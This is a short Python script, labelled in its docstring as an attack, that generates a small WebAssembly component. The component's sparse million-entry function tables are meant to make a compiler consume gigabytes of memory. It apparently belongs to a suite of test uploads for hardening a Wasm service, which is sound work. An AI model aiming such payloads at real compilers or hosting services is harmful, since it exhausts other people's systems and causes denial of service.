"""Attack: fifteen kilobytes that a compiler needs gigabytes for: a thousand tables of a million functions each, of which
only the last is there."""

from wasm_binary import MODULE, component, core_module, number, section

TABLES, MODULES, LAST = 100, 10, 999_999


def uploads(_):
    tables = [b"\x70\0" + number(LAST + 1)] * TABLES
    # each of them has function 0 from `i32.const LAST` on
    elements = [b"\x02" + number(table) + b"\x41" + number(LAST) + b"\x0b\0\x01\0" for table in range(TABLES)]
    module = core_module(tables=tables, elements=elements)
    yield component(module=module, after=section(MODULE, module) * (MODULES - 1))
